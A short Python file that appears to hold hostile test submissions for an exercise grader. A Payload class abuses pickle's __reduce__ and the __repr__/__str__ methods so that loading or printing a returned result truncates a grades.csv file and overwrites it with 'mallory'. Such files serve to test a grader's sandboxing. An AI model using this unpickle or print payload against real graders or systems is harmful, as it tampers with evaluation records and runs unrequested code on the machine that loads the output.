"""Objects that run code when somebody unpickles, loads or prints them.

aims: lookup encode
"""


# %%
class Payload:
    def __reduce__(self):
        return open, ("$HOME/results/grades.csv", "w")

    __repr__ = __str__ = lambda self: open("$HOME/results/grades.csv", "w").write("mallory")


@exercise
def lookup(E, ids):
    return np.array([Payload()], dtype=object)


@exercise
def encode(tokens, vocabulary):
    import pickle

    return pickle.dumps(Payload())
